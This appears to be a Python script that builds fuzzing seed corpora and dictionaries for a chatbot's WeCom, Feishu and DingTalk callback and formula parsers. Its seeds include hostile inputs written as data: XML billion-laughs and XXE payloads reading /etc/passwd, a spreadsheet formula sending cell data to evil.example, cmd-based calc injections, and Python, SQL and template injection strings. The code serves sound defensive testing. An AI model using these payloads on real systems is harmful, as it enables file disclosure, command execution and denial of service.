"""Write the seed corpora under fuzz/corpus/<target>/ from real payloads: ``python3 -m fuzz.make_corpus``.

Seeds come from the published platform vectors (copied below, so the corpus does not
depend on /work/shared), callbacks built with wechatpy (an independent implementation of
WeCom's crypto), the formulas we ship (handlers/scoring.py, handlers/formula/examples.py,
the docs), the config template and the TOML in the docs, and the messages of
tests/data/extraction/own.jsonl. The output is deterministic; files are only added or
overwritten, so regression seeds (``crash-*``, ``regress-*``) stay.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import random
import re
import struct
from collections.abc import Iterable
from datetime import datetime
from pathlib import Path

from fuzz.framing import SEP

ROOT = Path(__file__).resolve().parent.parent
CORPUS = ROOT / "fuzz" / "corpus"
DICTS = ROOT / "fuzz" / "dicts"
NOW = 1_780_000_000

# Copied from /work/shared/platform-vectors (official samples and SDK test vectors).
WECOM_VECTORS = (
    # (credential index in wecom_callback.CREDENTIALS, kind, msg_signature, timestamp, nonce, encrypt)
    (0, "verify_url", "012bc692d0a58dd4b10f8dfe5c4ac00ae211ebeb", "1476416373", "47744683",
     "fsi1xnbH4yQh0+PJxcOdhhK6TDXkjMyhEPA7xB2TGz6b+g7xyAbEkRxN/3cNXW9qdqjnoVzEtpbhnFyq6SVHyA=="),
    (1, "verify_url", "5c45ff5e21c57e6ad56bac8758b79b1d9ac89fd3", "1409659589", "263014780",
     "P9nAzCzyDtyTWESHep1vC5X9xho/qYX3Zpb4yKa9SKld1DsH3Iyt3tP3zNdtp+4RPcs8TgAE7OaBO+FZXvnaqQ=="),
    (2, "verify_url", "dd6b9c95b495b3f7e2901bfbc76c664930ffdb96", "1411443780", "437374425",
     "4ByGGj+sVCYcvGeQYhaKIk1o0pQRNbRjxybjTGblXrBaXlTXeOo1+bXFXDQQb1o6co6Yh9Bv41n7hOchLF6p+Q=="),
    # the same with a nonce one off: the signature no longer matches
    (2, "verify_url", "dd6b9c95b495b3f7e2901bfbc76c664930ffdb96", "1411443780", "437374424",
     "4ByGGj+sVCYcvGeQYhaKIk1o0pQRNbRjxybjTGblXrBaXlTXeOo1+bXFXDQQb1o6co6Yh9Bv41n7hOchLF6p+Q=="),
)
FEISHU_EVENT = "P37w+VZImNgPEO1RBhJ6RtKl7n6zymIbEG1pReEzghk="  # "hello world" under "test key"
DINGTALK_ROBOT = ("1577262236757", "hmPWwU+7lVdm3ZZz0r9tSfx0L4Q26jWOZr9+Gs6EZQM=")  # secret "this is secret"

INNER_XML = {
    "text": "<xml><ToUserName><![CDATA[ww1436e0e65a779aee]]></ToUserName><FromUserName><![CDATA[LiNa]]></FromUserName>"
            "<CreateTime>1780000000</CreateTime><MsgType><![CDATA[text]]></MsgType><Content><![CDATA[{content}]]></Content>"
            "<MsgId>7300000000000000001</MsgId><AgentID>1000002</AgentID></xml>",
    "voice": "<xml><FromUserName><![CDATA[LiNa]]></FromUserName><CreateTime>1780000000</CreateTime>"
             "<MsgType><![CDATA[voice]]></MsgType><MediaId><![CDATA[m1]]></MediaId><Format><![CDATA[amr]]></Format>"
             "<MsgId>7300000000000000002</MsgId><AgentID>1000002</AgentID></xml>",
    "image": "<xml><FromUserName><![CDATA[LiNa]]></FromUserName><MsgType><![CDATA[image]]></MsgType>"
             "<PicUrl><![CDATA[http://127.0.0.1/p.jpg]]></PicUrl><MediaId><![CDATA[img1]]></MediaId><MsgId>3</MsgId></xml>",
    "enter": "<xml><FromUserName><![CDATA[LiNa]]></FromUserName><MsgType><![CDATA[event]]></MsgType>"
             "<Event><![CDATA[enter_agent]]></Event><EventKey><![CDATA[]]></EventKey><AgentID>1000002</AgentID></xml>",
    "card": "<xml><FromUserName><![CDATA[LiNa]]></FromUserName><CreateTime>1780000000</CreateTime>"
            "<MsgType><![CDATA[event]]></MsgType><Event><![CDATA[template_card_event]]></Event>"
            "<EventKey><![CDATA[{key}]]></EventKey><TaskId><![CDATA[c0123456789@1]]></TaskId>"
            "<CardType><![CDATA[button_interaction]]></CardType><ResponseCode><![CDATA[rc1]]></ResponseCode>"
            "<AgentID>1000002</AgentID><SelectedItems></SelectedItems></xml>",
    "wrong_agent": "<xml><FromUserName>x</FromUserName><MsgType>text</MsgType><MsgId>1</MsgId><AgentID>7</AgentID></xml>",
}
HOSTILE_XML = {
    "billion_laughs": '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
                      '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>'
                      "<xml><FromUserName>LiNa</FromUserName><MsgType>text</MsgType><Content>&d;&d;&d;</Content><MsgId>1</MsgId></xml>",
    "quadratic": '<!DOCTYPE x [<!ENTITY a "' + "A" * 2000 + '">]><xml><Content>' + "&a;" * 500 + "</Content></xml>",
    "external": '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><xml><Content>&e;</Content></xml>',
    "parameter_entity": '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://127.0.0.1/evil.dtd">%p;]><xml/>',
    "dtd_only": '<!DOCTYPE xml [<!ELEMENT xml ANY>]><xml><MsgType>text</MsgType></xml>',
    "deep": "<xml>" + "<a>" * 3000 + "</a>" * 3000 + "</xml>",
    "unclosed_deep": "<a>" * 5000,
    "charrefs": "<xml><FromUserName>&#x10FFFF;&#65;&amp;&lt;</FromUserName><MsgType>text</MsgType><MsgId>&#49;</MsgId>"
                "<Content>&#x7F;&#xFFFE;</Content></xml>",
    "cdata_end": "<xml><Content><![CDATA[a]]]]><![CDATA[>b]]></Content></xml>",
    "pi_comment": '<?xml version="1.0" encoding="UTF-8"?><?pi x?><!-- c --><xml><MsgType>text</MsgType></xml>',
    "long_key": "<xml><FromUserName>" + "u" * 300 + "</FromUserName><MsgType>text</MsgType><MsgId>" + "9" * 300 + "</MsgId></xml>",
}
CHAT_COMMANDS = (
    "帮助", "help", "？", "菜单", "报表", "报表 华东 本周", "雷达图销售本月", "热力图 张伟", "团队看板 上月",
    "把线索 1024 转给王五", "把线索#7转派给lina。", "线索池", "待分配线索",
    "恒锐 进入 需求诊断", "恒锐 强制进入 报价 原因：客户口头确认需求", "恒锐签约了", "恒锐 输单了 原因：价格",
    "建商机 恒锐 金额 50万", "新商机 苏州恒锐，报价：一百二十万", "恒锐 健康分", "评分 恒锐？", "恒锐的商机", "阶段 恒锐",
    "恒锐 决策链：设备科王主任说了算，李主任管技术，赵工 影响 王主任，钱总 权重 80，孙经理说了不算",
    "日期改成 下周三", "金额：48万", "联系人是 王建国", "下一步=寄样", "客户换成 苏州恒锐精密", "意向 应该是 报价",
    "查一下恒锐最近怎么样", "恒锐近况？", "设备报错E04，产线停了", "客户那边F-12故障码，设备不转了", "重新加载规则",
    "预算：50万；决策人：王总；下次联系时间：下周三", "60万", "600000", "1.2亿", "9e999999", "-5", "NaN", "Infinity",
    "+86 139 1234 5678 转 8001", "0512-6688 1234", "苏州恒锐精密机械有限公司（集团）", "王建国 经理",
    "王经理 10:01\n您好，设备到了吗\n李娜 2026-05-19 10:02\n明天发货",
    "accept:c0123456789::", "fuok:c0123456789:x:0123456789abcdef0123",
    # formula injection: must stay inert text everywhere
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")", "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1 进入 报价", "-2+3 健康分", "建商机 =1+1 金额 50万",
)


def _write(target: str, name: str, data: bytes) -> None:
    """Add a seed, unless it reproduces an open, handed-over issue (fuzz/known_issues.py):
    such a seed would stop every fuzzing run at once; it joins the corpus when the fix lands."""
    import importlib

    from fuzz.known_issues import known_issue
    from fuzz.targets import TARGETS

    try:
        importlib.import_module(TARGETS[target].module).check(data)
    except Exception as exc:
        issue = known_issue(target, exc)
        if issue is not None:
            print(f"not seeded (open issue in {issue.file}): {target}/{name}")
            (CORPUS / target / name).unlink(missing_ok=True)
            return
    folder = CORPUS / target
    folder.mkdir(parents=True, exist_ok=True)
    (folder / name).write_bytes(data)


def _join(*parts: str | bytes) -> bytes:
    return SEP.join(p.encode("utf-8") if isinstance(p, str) else p for p in parts)


def _messages(limit: int | None = None) -> list[tuple[str, str]]:
    rows = []
    path = ROOT / "tests" / "data" / "extraction" / "own.jsonl"
    for line in path.read_text(encoding="utf-8").splitlines()[:limit]:
        row = json.loads(line)
        rows.append((row["id"], row["text"]))
    return rows


def wecom_seeds() -> None:
    from fuzz.targets.wecom_callback import CREDENTIALS, envelope, layout, seal
    from handlers.context import FakeClock
    from nlp.calendar import SHANGHAI
    from tests.wecom_fakes import (
        WeComCallbacks,  # wechatpy inside: an independent implementation
    )

    for index, kind, signature, timestamp, nonce, encrypt in WECOM_VECTORS:
        name = f"vector-{index}-{kind}-{nonce}"
        _write("wecom_callback", name, bytes([1 | index << 3]) + _join(signature, timestamp, nonce, encrypt))
    token, key, corp = CREDENTIALS[0]
    crypto = WeComCallbacks(FakeClock(datetime.fromtimestamp(NOW, SHANGHAI)), token=token, key=key, corp_id=corp).crypto
    random.seed(20260520)  # wechatpy draws its 16-byte prefix from `random`: same seeds every time
    inners = {f"text-{mid}": INNER_XML["text"].format(content=text) for mid, text in _messages(6)}
    inners.update({k: v.format(key="accept:c0123456789::0123456789abcdef0123") for k, v in INNER_XML.items() if k != "text"})
    inners["billion_laughs"] = HOSTILE_XML["billion_laughs"]
    for name, inner in inners.items():
        reply = crypto.encrypt_message(inner, "n1", str(NOW))
        encrypt = re.search(r"<Encrypt><!\[CDATA\[(.*?)\]\]>", reply).group(1)  # type: ignore[union-attr]
        signature = re.search(r"<MsgSignature><!\[CDATA\[(.*?)\]\]>", reply).group(1)  # type: ignore[union-attr]
        body = envelope(encrypt, corp)
        _write("wecom_callback", f"wechatpy-{name}", bytes([0]) + _join(signature, str(NOW), "n1", body))
        _write("wecom_callback", f"inner-{name}", bytes([2]) + inner.encode())
        # the same request ten minutes old, and with a forged signature
        if name == "card":
            _write("wecom_callback", "wechatpy-card-stale", bytes([0]) + _join(signature, str(NOW - 600), "n1", body))
            _write("wecom_callback", "wechatpy-card-forged", bytes([0]) + _join("0" + signature[1:], str(NOW), "n1", body))
    _write("wecom_callback", "layout-ok", bytes([3]) + layout(b"<xml/>", corp))
    _write("wecom_callback", "layout-long-length", bytes([3]) + b"\x00" * 16 + struct.pack(">I", 2**31) + b"<xml/>" + corp.encode())
    _write("wecom_callback", "layout-aibot", bytes([3 | 4 << 3]) + layout(b'{"msgtype":"text"}', ""))
    _write("wecom_callback", "ciphertext-two-blocks", bytes([4]) + bytes(range(32)))
    _write("wecom_callback", "ciphertext-seal", bytes([4]) + base64.b64decode(seal(key, layout(b"hi", corp))))
    _write("wecom_callback", "encrypt-not-base64", bytes([5]) + "不是base64!!==".encode())
    for ts in (str(NOW), str(NOW - 300), str(NOW + 301), "0", "99999999999999999", "1e9", "-1", "１７８０"):
        _write("wecom_callback", f"fresh-{hashlib.sha1(ts.encode()).hexdigest()[:8]}", bytes([6]) + ts.encode())
    for name, document in {**INNER_XML, **HOSTILE_XML}.items():
        _write("wecom_xml", name, document.format(content="你好", key="accept:c1::x").encode())
    _write("wecom_xml", "envelope", envelope("Zm9v", corp))
    _write("wecom_xml", "utf16", '<?xml version="1.0" encoding="UTF-16"?><xml><MsgType>text</MsgType></xml>'.encode("utf-16"))
    _write("wecom_xml", "invalid_utf8", b"<xml><Content>\xff\xfe\xc3</Content></xml>")
    _write("wecom_xml", "chat_record", INNER_XML["text"].format(content="王经理 10:01\n你好\n李娜 10:02\n好的").encode())


def feishu_dingtalk_seeds() -> None:
    from bot.crypto import FeishuCrypto
    from fuzz.targets.feishu_dingtalk import DINGTALK, DINGTALK_ROBOT_SECRET, FEISHU_KEY
    from fuzz.targets.wecom_callback import expected_signature, layout, seal

    event = json.dumps({"schema": "2.0", "header": {"event_id": "e1", "event_type": "im.message.receive_v1", "token": "v"},
                        "event": {"message": {"message_id": "om_1", "message_type": "text",
                                              "content": json.dumps({"text": "恒锐 进入 报价"}, ensure_ascii=False)}}},
                       ensure_ascii=False)
    encrypted = FeishuCrypto(FEISHU_KEY).encrypt(event, iv=b"\x01" * 16)
    _write("feishu_dingtalk", "feishu-body", bytes([0]) + json.dumps({"encrypt": encrypted}).encode())
    _write("feishu_dingtalk", "feishu-body-plain-event", bytes([0]) + event.encode())
    _write("feishu_dingtalk", "feishu-blob", bytes([1]) + base64.b64decode(encrypted))
    _write("feishu_dingtalk", "feishu-vector-other-key", bytes([1]) + base64.b64decode(FEISHU_EVENT))
    _write("feishu_dingtalk", "feishu-roundtrip", bytes([2]) + event.encode())
    body = json.dumps({"encrypt": encrypted}).encode()
    signature = hashlib.sha256((str(NOW) + "7a8b9c" + FEISHU_KEY).encode() + body).hexdigest()
    _write("feishu_dingtalk", "feishu-signature", bytes([3]) + _join(str(NOW), "7a8b9c", body, signature))
    card = b'{"open_id":"ou_x","action":{"value":{"k":"v"},"tag":"button"}}'
    legacy = hashlib.sha1(b"17000000007a8b9cv_token_demo" + card).hexdigest()
    _write("feishu_dingtalk", "feishu-legacy-card", bytes([4]) + _join("1700000000", "7a8b9c", card, legacy))
    token, aes_key, owner = DINGTALK
    encrypt = seal(aes_key, layout('{"EventType":"check_url"}'.encode(), owner))
    ts = str(NOW * 1000)
    _write("feishu_dingtalk", "dingtalk-event", bytes([5]) + _join(expected_signature(token, ts, "n", encrypt), ts, "n",
                                                                    json.dumps({"encrypt": encrypt}).encode()))
    _write("feishu_dingtalk", "dingtalk-ciphertext", bytes([6]) + base64.b64decode(encrypt))
    _write("feishu_dingtalk", "dingtalk-robot-vector", bytes([7]) + _join(*DINGTALK_ROBOT))
    sign = base64.b64encode(hmac.new(DINGTALK_ROBOT_SECRET.encode(), f"{ts}\n{DINGTALK_ROBOT_SECRET}".encode(),
                                     hashlib.sha256).digest()).decode()
    _write("feishu_dingtalk", "dingtalk-robot-fresh", bytes([7]) + _join(ts, sign))
    _write("feishu_dingtalk", "dingtalk-roundtrip", bytes([8]) + "success".encode())
    _write("feishu_dingtalk", "dingtalk-inner", bytes([9]) + '{"EventType":"chat_update_title"}'.encode())


def formulas() -> list[str]:
    """Every formula we ship or document."""
    from handlers.formula.examples import DEALER_REBATE, HEALTH_SCORE
    from handlers.scoring import DEFAULT_HEALTH, DEFAULT_LEAD

    found = [DEFAULT_HEALTH, DEFAULT_LEAD, HEALTH_SCORE, DEALER_REBATE]
    for path in [ROOT / "README.md", *sorted((ROOT / "docs").glob("*.md")), ROOT / "handlers" / "formula" / "README.md",
                 ROOT / "handlers" / "scoring.py"]:
        for match in re.finditer(r'formula = "([^"]+)"', path.read_text(encoding="utf-8")):
            if "…" not in match.group(1) and "..." not in match.group(1):
                found.append(match.group(1))
        for match in re.finditer(r"\| `([^`|]*\([^`|]*)` \|", path.read_text(encoding="utf-8")):
            found.append(match.group(1))
    found += ["签约日期 >= DATE(\"2026-01-01\") AND 已认证", "DAYS(TODAY(), 签约日期) / 7", "行业 NOT IN ('电子', 「汽车」)",
              "ABS(a - b) ÷ 2 ≥ 1", "`a` * 1.5万 - b % 3", "CONTAINS(行业, “机械”) || !已认证", "IF(a > 0, b / a, 0)",
              # injection attempts: refused with a FormulaError, never evaluated as Python or Excel
              "__import__('os').system('id')", "a.__class__.__mro__", "=HYPERLINK(\"http://x\")", "eval(\"1\")",
              "{{7*7}}", "${a}", "a; DROP TABLE leads", "lambda: 1"]
    return list(dict.fromkeys(found))


def formula_seeds() -> None:
    from fuzz.targets.formula_compile import FIELDS
    from handlers.formula import FormulaError, compile_formula

    facts = "\n".join(["d12345.67", "i3", "f0.1", "s汽车零部件", "D2026-01-01", "b1", "n", "-", "d1E+999999", "dNaN"])
    for number, source in enumerate(formulas()):
        _write("formula_compile", f"shipped-{number:02d}", source.encode())
        try:
            formula = compile_formula(source, FIELDS)
        except FormulaError:
            continue
        _write("formula_eval", f"shipped-{number:02d}-zero", _join(source, "", ""))
        _write("formula_eval", f"shipped-{number:02d}-mixed", _join(source, "2026-05-20", facts))
        _write("formula_eval", f"shipped-{number:02d}-huge", _join(source, "9999-12-31", "\n".join(
            ["d9.999999999999999999999999999999999E+999999"] * len(formula.fields_in_order))))


def config_seeds() -> None:
    template = (ROOT / "bot" / "templates" / "leadbot.toml").read_text(encoding="utf-8")
    _write("config_parse", "template", template.encode())
    _write("config_parse", "template-env", _join(template, "DATABASE_URL=sqlite:///x.db\nSERVER__PORT=abc\n"
                                                           "PLATFORMS__WECOM__SECRET=s\nASSIGNMENT__ACCEPT_WITHIN_HOURS=-1"))
    number = 0
    for path in [ROOT / "README.md", *sorted((ROOT / "docs").glob("*.md"))]:
        for block in re.findall(r"```toml\n(.*?)```", path.read_text(encoding="utf-8"), re.S):
            _write("config_parse", f"docs-{path.stem}-{number:02d}", (template + "\n" + block).encode())
            _write("config_parse", f"docs-{path.stem}-{number:02d}-alone", block.encode())
            number += 1
    _write("config_parse", "bad-formula", (template + '\n[scoring.health]\nformula = "IF(跟进次数>, 1"\n').encode())
    _write("config_parse", "formula-injection", (template + "\n[scoring.health]\nformula = \"__import__('os').system('id')\"\n"
                                                 '[scoring.lead]\nformula = "=HYPERLINK(\\"http://x\\")"\n').encode())


def extract_seeds() -> None:
    for mid, text in _messages():
        _write("extract", f"own-{mid}", bytes([0]) + text.encode())
    for mid, text in _messages(5):
        _write("extract", f"runon-{mid}", bytes([2]) + text.encode())
        _write("extract", f"chat-{mid}", bytes([3]) + text.encode())
        _write("extract", f"wide-{mid}", bytes([1]) + text.encode("utf-16-le"))


def chat_seeds() -> None:
    for number, text in enumerate(CHAT_COMMANDS):
        _write("chat_commands", f"command-{number:02d}", text.encode())


def feishu_event_seeds() -> None:
    """Decrypted Feishu events as tests/feishu_fakes.py builds them (fixed ids: deterministic)."""
    from tests.feishu_fakes import FeishuSender

    sender = FeishuSender(encrypt_key=None)
    post = {"zh_cn": {"title": "拜访纪要", "content": [[{"tag": "text", "text": "王总："}, {"tag": "at", "user_name": "张伟"}],
                                                     [{"tag": "a", "text": "产线视频", "href": "https://example.com"}, {"tag": "img", "image_key": "img_1"}]]}}
    messages = {
        "text": sender.text_message("ou_zhangwei", "恒锐 王总 139 1234 5678 预算60万", message_id="om_1", event_id="ev-1"),
        "text-mention": sender.text_message("ou_zhangwei", "@_user_1 今天拜访了恒锐 @_user_2", message_id="om_2", event_id="ev-2",
                                            mentions=[{"key": "@_user_1", "name": "leadbot"}, {"key": "@_user_2", "name": "陈静"}]),
        "post": sender.text_message("ou_zhangwei", "", msg_type="post", content=post, message_id="om_3", event_id="ev-3"),
        "forward": sender.text_message("ou_zhangwei", "", msg_type="merge_forward", content={"content": "Merged and Forwarded Message"}, message_id="om_fwd", event_id="ev-4"),
        "audio": sender.text_message("ou_zhangwei", "", msg_type="audio", content={"file_key": "file_v1", "duration": 3000}, message_id="om_5", event_id="ev-5"),
        "file": sender.text_message("ou_zhangwei", "", msg_type="file", content={"file_key": "file_1", "file_name": "报价单.xlsx"}, message_id="om_6", event_id="ev-6"),
        "sticker": sender.text_message("ou_zhangwei", "", msg_type="sticker", content={"file_key": "s1"}, message_id="om_7", event_id="ev-7"),
        "click": sender.card_click("ou_zhangwei", {"k": "accept:c1::0123456789abcdef0123", "c": "c1"}, message_id="om_card", token="c-tok", event_id="ev-8"),
        "click-string-value": sender.card_click("ou_zhangwei", {"k": "x", "c": "c1"}, message_id="om_card", event_id="ev-9"),
    }
    messages["click-string-value"]["event"]["action"]["value"] = json.dumps({"k": "stgo:opp1:报价:0123456789abcdef0123", "c": "opp1"})
    for name, envelope in messages.items():
        body = json.dumps(envelope, ensure_ascii=False).encode()
        _write("feishu_events", f"event-{name}", b"\x00" + body)
        _write("feishu_events", f"body-{name}", b"\x01" + body)
    verification = {"type": "url_verification", "challenge": "ch-1", "token": "vtok-abcdef"}
    _write("feishu_events", "body-url-verification", b"\x01" + json.dumps(verification).encode())
    items = [
        {"message_id": "om_fwd", "msg_type": "merge_forward", "body": {"content": "{}"}},
        {"message_id": "c1", "upper_message_id": "om_fwd", "msg_type": "text", "create_time": "1773104400000",
         "sender": {"id": "ou_customer1", "sender_type": "user"}, "body": {"content": json.dumps({"text": "王总：下周三来苏州看产线"}, ensure_ascii=False)}},
        {"message_id": "c2", "upper_message_id": "om_fwd", "msg_type": "merge_forward", "create_time": "1773104460000",
         "sender": {"id": "ou_zhangwei", "sender_type": "user"}, "body": {"content": "{}"}},
        {"message_id": "c3", "upper_message_id": "c2", "msg_type": "post", "create_time": "1773104470000",
         "sender": {"id": "cli_bot", "sender_type": "app"}, "body": {"content": json.dumps(post["zh_cn"], ensure_ascii=False)}},
        {"message_id": "c4", "upper_message_id": "om_fwd", "msg_type": "image", "create_time": "1773104480000",
         "sender": {"id": "ou_zhangwei", "sender_type": "user"}, "body": {"content": json.dumps({"image_key": "img_1"})}},
    ]
    _write("feishu_events", "forward-items", b"\x02" + json.dumps(items, ensure_ascii=False).encode())
    _write("feishu_events", "content-post", b"\x03" + json.dumps(post, ensure_ascii=False).encode())
    _write("feishu_events", "content-text", b"\x03" + json.dumps({"text": "@_user_1 你好", "file_name": "a.pdf"}, ensure_ascii=False).encode())
    _write("feishu_events", "mentions", b"\x04" + _join("@_user_1 @_user_2 明天去恒锐", json.dumps([{"key": "@_user_1", "name": "leadbot"}, {"key": "@_user_2", "name": ""}])))


def dingtalk_event_seeds() -> None:
    """Robot messages, card callbacks and Stream frames as tests/dingtalk_fakes.py builds them."""
    from tests.dingtalk_fakes import callback_frame, card_callback, robot_message

    record = [{"senderNick": "王总", "content": "下周三来苏州看产线", "createAt": 1773104400000},
              {"senderName": "张伟", "text": {"content": "好的，我带样本"}, "sendTime": 1773104460000}]
    robots = {
        "text": robot_message("zhangwei", "恒锐 王总 139 1234 5678 预算60万", msg_id="msg1", webhook="https://oapi.dingtalk.com/robot/sendBySession?session=s1"),
        "audio": robot_message("zhangwei", msg_id="msg2", msgtype="audio", content={"recognition": "明天去恒锐", "downloadCode": "dc1"}),
        "rich": robot_message("zhangwei", msg_id="msg3", msgtype="richText", content={"richText": [{"text": "拜访纪要"}, {"pictureDownloadCode": "p1"}]}),
        "picture": robot_message("zhangwei", msg_id="msg4", msgtype="picture", content={"downloadCode": "p2"}),
        "file": robot_message("zhangwei", msg_id="msg5", msgtype="file", content={"downloadCode": "f1", "fileName": "报价单.xlsx"}),
        "record": robot_message("zhangwei", msg_id="msg6", msgtype="chatRecord", content={"chatRecord": json.dumps(record, ensure_ascii=False)}),
    }
    for name, data in robots.items():
        _write("dingtalk_events", f"robot-{name}", b"\x00" + json.dumps(data, ensure_ascii=False).encode())
    click = card_callback("zhangwei", "c1", "btn_0")
    _write("dingtalk_events", "card-click", b"\x01" + json.dumps(click, ensure_ascii=False).encode())
    _write("dingtalk_events", "frame-robot", b"\x02" + json.dumps(callback_frame("/v1.0/im/bot/messages/get", robots["text"], message_id="mid-1"), ensure_ascii=False).encode())
    _write("dingtalk_events", "frame-card", b"\x02" + json.dumps(callback_frame("/v1.0/card/instances/callback", click, message_id="mid-2"), ensure_ascii=False).encode())
    _write("dingtalk_events", "record-list", b"\x03" + json.dumps(record, ensure_ascii=False).encode())
    _write("dingtalk_events", "record-string", b"\x03" + json.dumps(json.dumps({"records": record}, ensure_ascii=False), ensure_ascii=False).encode())


def _dict_entry(word: str) -> str:
    return '"' + "".join(chr(b) if 32 <= b < 127 and b not in (34, 92) else f"\\x{b:02x}" for b in word.encode()) + '"'


def write_dicts(words: dict[str, Iterable[str]]) -> None:
    """libFuzzer dictionaries (``-dict=``): the language's keywords reach the fuzzer at once."""
    DICTS.mkdir(parents=True, exist_ok=True)
    for target, entries in words.items():
        lines = [_dict_entry(w) for w in dict.fromkeys(entries) if w]
        (DICTS / f"{target}.dict").write_text("\n".join(lines) + "\n", encoding="ascii")


def main() -> None:
    """Write every corpus and dictionary."""
    wecom_seeds()
    feishu_dingtalk_seeds()
    formula_seeds()
    config_seeds()
    extract_seeds()
    chat_seeds()
    feishu_event_seeds()
    dingtalk_event_seeds()
    formula_words = ["IF(", "IFS(", "AND", "OR", "NOT", "IN (", "TRUE", "FALSE", "ROUND(", "MIN(", "MAX(", "ABS(",
                     "DAYS(", "TODAY()", "DATE(\"2026-01-01\")", "CONTAINS(", ">=", "<=", "<>", "!=", "==", "&&", "||",
                     "≥", "≤", "≠", "×", "÷", "万", "亿", "%", "“", "”", "「", "」", "`", "（", "）", "，", "\x1e",
                     "跟进次数", "行业", "签约日期", "已认证", "预算", "1E+999999", "dNaN", "d1E+999999", "i", "f", "s", "D", "T"]
    write_dicts({
        "formula_compile": formula_words,
        "formula_eval": formula_words,
        "chat_commands": [w for c in CHAT_COMMANDS for w in re.split(r"[\s，：:；;]", c)],
        "config_parse": ["[[members]]", "[[regions]]", "[assignment]", "[[assignment.rules]]", "[scoring.health]",
                         "formula = ", "[[stages]]", "[[webhooks]]", "[platforms.wecom]", "[intake.sources.x]",
                         "when = {", "to = {", "=", "\"", "'''", "[", "]", "{", "}", "\x1e", "LEADBOT_"],
        "feishu_events": ["\"schema\"", "\"2.0\"", "\"header\"", "\"event\"", "\"event_type\"", "\"im.message.receive_v1\"",
                          "\"card.action.trigger\"", "\"message_type\"", "\"msg_type\"", "\"content\"", "\"mentions\"",
                          "\"upper_message_id\"", "\"merge_forward\"", "\"post\"", "\"tag\"", "\"create_time\"",
                          "\"sender_type\"", "\"app\"", "\"value\"", "\"encrypt\"", "\"url_verification\"", "\\ud800", "[", "{", "null"],
        "dingtalk_events": ["\"msgtype\"", "\"msgId\"", "\"senderStaffId\"", "\"content\"", "\"richText\"", "\"chatRecord\"",
                            "\"records\"", "\"recognition\"", "\"downloadCode\"", "\"sessionWebhook\"", "\"sessionWebhookExpiredTime\"",
                            "\"outTrackId\"", "\"cardPrivateData\"", "\"actionIds\"", "\"CALLBACK\"", "\"topic\"", "\"data\"",
                            "\"createAt\"", "\\ud800", "[", "{", "null"],
    })


if __name__ == "__main__":
    main()
